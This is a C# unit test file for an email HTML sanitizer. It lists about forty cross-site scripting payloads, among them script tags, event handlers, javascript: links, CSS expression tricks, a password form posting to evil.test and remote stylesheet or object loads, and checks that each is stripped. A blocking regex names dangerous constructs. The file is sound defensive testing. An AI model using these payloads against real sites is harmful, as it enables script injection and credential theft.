using System.Text.RegularExpressions;
using CdpStudio.Core.Kernel;
using CdpStudio.Core.Messaging.Content;

namespace CdpStudio.Core.Tests.Messaging.Content;

public sealed partial class HtmlTabTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT src=https://evil.test/x.js></SCRIPT>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"java&#10;script:alert(1)\">x</a>")]
    [InlineData("<a href=\" &#14; javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")]
    [InlineData("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg onload=alert(1)>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>")]
    [InlineData("<form action=https://evil.test><input name=password><button>x</button></form>")]
    [InlineData("<base href=https://evil.test/>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.test\">")]
    [InlineData("<link rel=stylesheet href=https://evil.test/x.css>")]
    [InlineData("<style>@import 'https://evil.test/x.css';</style>")]
    [InlineData("<style>p{background:url(javascript:alert(1))}</style>")]
    [InlineData("<p style=\"width:expression(alert(1))\">x</p>")]
    [InlineData("<p style=\"width:exp/**/ression(alert(1))\">x</p>")]
    [InlineData("<p style=\"background:\\75rl(javascript:alert(1))\">x</p>")]
    [InlineData("<p style=\"behavior:url(#x)\">x</p>")]
    [InlineData("<p style=\"color:{{color}}\">x</p>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=https://evil.test/x.swf></object><embed src=https://evil.test/x>")]
    [InlineData("<!--[if mso]><script>alert(1)</script><![endif]-->")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<p onclick='alert(1)' ONMOUSEOVER=alert(1)>x</p>")]
    [InlineData("<textarea><script>alert(1)</script></textarea>")]
    [InlineData("<title><script>alert(1)</script></title>")]
    [InlineData("<xmp><script>alert(1)</script></xmp>")]
    [InlineData("<a href=\"https://{{host}}/\">x</a>")]
    [InlineData("<body onload=alert(1) background=\"javascript:alert(1)\">x")]
    [InlineData("<video><source onerror=alert(1)></video>")]
    [InlineData("<custom-element onfocus=alert(1)><script>alert(1)</script>x</custom-element>")]
    [InlineData("<a xlink:href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<table><td background=\"javascript:alert(1)\">x</td></table>")]
    [InlineData("<p><style><p title=\"</style><script>alert(1)</script>\"></p>")]
    public void Render_WhatRunsOrLoads_IsLeftOut(string hostile)
    {
        var mail = AMessage.Render(AMessage.Of(html: $"<p>before</p>{hostile}<p>after</p>"));

        Assert.Contains("before", mail.Html, StringComparison.Ordinal);
        Assert.DoesNotMatch(Dangerous(), mail.Html);
        Assert.DoesNotContain("evil.test", mail.Html, StringComparison.Ordinal);
        Assert.DoesNotContain("{{", mail.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Render_WhatAMailMayHold_IsKept()
    {
        const string html =
            """<html><head><style>p{color:red} @media (max-width:600px){p{color:blue}}</style></head><body bgcolor="#fff"><table width="600"><tbody><tr><td align="center" style="padding:8px;background:url(https://k.example/b.png)"><a href="https://k.example/?a=1&amp;b={{name|x y}}">Go</a><img src="https://k.example/a.png" alt="A" width="20"></td></tr></tbody></table></body></html>""";

        var mail = AMessage.Render(AMessage.Of(html: html));

        Assert.Contains("<style>p{color:red} @media (max-width:600px){p{color:blue}}</style>", mail.Html, StringComparison.Ordinal);
        Assert.Contains("<body bgcolor=\"#fff\">", mail.Html, StringComparison.Ordinal);
        Assert.Contains("style=\"padding:8px;background:url(https://k.example/b.png)\"", mail.Html, StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://k.example/?a=1&amp;b=x%20y\">Go</a>", mail.Html, StringComparison.Ordinal);
        Assert.Contains("<img src=\"https://k.example/a.png\" alt=\"A\" width=\"20\">", mail.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Render_WithoutALink_GetsOneAndTheAddress()
    {
        var mail = AMessage.Render(AMessage.Of(html: "<p>Hi</p>"));

        Assert.Contains("href=\"https://cdp.example/u/abc\"", mail.Html, StringComparison.Ordinal);
        Assert.Contains("1 Weaver Street", mail.Html, StringComparison.Ordinal);
        Assert.EndsWith("</body></html>", mail.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Render_WithALinkAndTheAddressOfItsOwn_GetsNoSecondOne()
    {
        var mail = AMessage.Render(AMessage.Of(html: "<p>Hi</p><p>1  Weaver<br>Street</p><a href=\"{{$unsubscribe}}\">No more</a>"));

        Assert.Equal(2, mail.Html.Split("https://cdp.example/u/abc").Length);
        Assert.DoesNotContain("1 Weaver Street", mail.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Render_ItsText_ReadsAsThePageDoes()
    {
        var mail = AMessage.Render(AMessage.Of(html: "<h1>New</h1><p>Hi   {{name|you}},<br>look:</p><ul><li>One</li><li>Two</li></ul><p><a href=\"https://k.example/\">Here</a> or <a href=\"#top\">up</a></p>"));

        Assert.Equal(
            "New\n\nHi you,\nlook:\n\n- One\n\n- Two\n\nHere (https://k.example/) or up\n-- \n1 Weaver Street\n\nUnsubscribe:\nhttps://cdp.example/u/abc\n", mail.Text);
    }

    [Fact]
    public void Render_AValueInAnAttribute_CannotLeaveIt()
    {
        var values = AMessage.Values(("name", "\"\\\" onmouseover=alert(1) x=\\\"\"", DataType.Text));

        var mail = AMessage.Render(AMessage.Of(html: "<p title=\"{{name}}\">x</p><a href=\"https://k.example/{{name}}\">y</a>"), values);

        Assert.DoesNotContain("\" onmouseover", mail.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Render_HtmlNestedTenThousandDeep_DoesNotEndTheProcess()
    {
        var html = string.Concat(Enumerable.Repeat("<div>", 10_000)) + "x";

        Assert.Contains("News", AMessage.Render(AMessage.Of(html: html)).Subject, StringComparison.Ordinal);
    }

    [GeneratedRegex(@"<script|<svg|<math|<form|<input|<iframe|<object|<embed|<base|<link|<textarea|http-equiv|\son\w+\s*=|javascript|expression|@import|behavior|srcdoc|<meta(?! charset| name=""viewport"")|<!--", RegexOptions.IgnoreCase)]
    private static partial Regex Dangerous();
}
